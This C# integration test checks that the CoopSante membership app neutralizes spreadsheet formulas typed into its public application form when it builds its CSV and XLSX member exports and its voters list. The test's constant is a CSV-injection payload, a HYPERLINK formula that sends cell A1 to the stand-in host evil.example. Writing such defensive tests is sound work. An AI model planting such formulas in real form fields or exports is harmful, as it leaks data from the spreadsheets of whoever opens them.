using System.Net;
using System.Net.Http.Json;
using System.Text;
using CoopSante.Integration.Tests.Infrastructure;
using MiniExcelLibs;
using static CoopSante.Integration.Tests.Membership.MembershipScenario;

namespace CoopSante.Integration.Tests.Membership;

/// <summary>A name typed as a formula on the public form reaches every export as text, never as a formula (OWASP CSV injection).</summary>
public sealed class FormulaInjectionTests(AppFixture app) : IAsyncLifetime
{
    private const string Formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")";

    public async ValueTask InitializeAsync() => await app.ResetAsync();
    public ValueTask DisposeAsync() => ValueTask.CompletedTask;

    private static async Task<string> SaveAsync(HttpResponseMessage response, string extension)
    {
        Assert.True(response.StatusCode == HttpStatusCode.OK, await response.Content.ReadAsStringAsync());
        var path = Path.Combine(Path.GetTempPath(), $"injection-{Guid.NewGuid():N}.{extension}");
        await File.WriteAllBytesAsync(path, await response.Content.ReadAsByteArrayAsync());
        return path;
    }

    /// <summary>Every field of a CSV file as a spreadsheet would read it (RFC 4180 quotes undone).</summary>
    private static async Task<List<string>> CsvFieldsAsync(string path, char separator)
    {
        var fields = new List<string>();
        await using var stream = File.OpenRead(path);
        using var csv = CsvHelper.CsvReader.Create(stream, new CsvHelper.CsvReaderOptions { HasHeader = false, Separator = separator }, leaveOpen: false);
        while (csv.Read())
            for (var i = 0; i < csv.FieldCount; i++) fields.Add(csv.GetString(i));
        return fields;
    }

    private static void AssertNoFormula(IEnumerable<string> cells)
    {
        var list = cells.ToList();
        Assert.Contains("'" + Formula, list);
        Assert.DoesNotContain(list, c => c.Length > 0 && c[0] is '=' or '+' or '@' or '\t' or '\r');
    }

    [Fact]
    public async Task A_name_typed_as_a_formula_on_the_public_form_is_neutralized_in_the_register_csv_and_xlsx_and_the_voters_list()
    {
        var s = await StartAsync(app);
        var visitor = app.Anonymous();
        var form = await Json(await visitor.GetAsync($"/api/v1/public/coops/{s.CoopId}/application-form"));
        var applied = await visitor.PostAsJsonAsync($"/api/v1/public/coops/{s.CoopId}/applications",
            new { identity = Person(Formula, "@SUM(1+1)"), consent = true, consentTextVersion = form.GetProperty("consentTextVersion").GetString() });
        Assert.Equal(HttpStatusCode.Created, applied.StatusCode);
        var applicationId = (await Json(applied)).GetProperty("applicationId").GetGuid();
        var memberId = (await Json(applied)).GetProperty("memberId").GetGuid();
        await s.AdmitAsync(applicationId);
        var paid = await s.Admin.PostAsJsonAsync($"{s.Base}/members/{memberId}/shares/payments", new { amount = 10m, method = "Cash", occurredOn = Yesterday });
        Assert.True(paid.IsSuccessStatusCode, await paid.Content.ReadAsStringAsync());

        var csv = await SaveAsync(await s.Admin.GetAsync($"{s.Base}/members/export?format=csv"), "csv");
        var csvFields = await CsvFieldsAsync(csv, ',');
        AssertNoFormula(csvFields);
        Assert.Contains("'@SUM(1+1)", csvFields);

        var xlsx = await SaveAsync(await s.Admin.GetAsync($"{s.Base}/members/export?format=xlsx"), "xlsx");
        var xlsxCells = MiniExcel.Query(xlsx, useHeaderRow: false).Cast<IDictionary<string, object?>>()
            .SelectMany(r => r.Values).Select(v => v?.ToString() ?? "").ToList();
        AssertNoFormula(xlsxCells);
        Assert.DoesNotContain("<f>", XlsxSheetXml(xlsx), StringComparison.Ordinal);

        var voters = await SaveAsync(await s.Admin.GetAsync($"{s.Base}/meetings/voters.csv"), "csv");
        AssertNoFormula(await CsvFieldsAsync(voters, ';'));
    }

    private static string XlsxSheetXml(string path)
    {
        using var zip = System.IO.Compression.ZipFile.OpenRead(path);
        var sheet = zip.Entries.Single(e => e.FullName.StartsWith("xl/worksheets/sheet", StringComparison.Ordinal));
        using var reader = new StreamReader(sheet.Open(), Encoding.UTF8);
        return reader.ReadToEnd();
    }
}
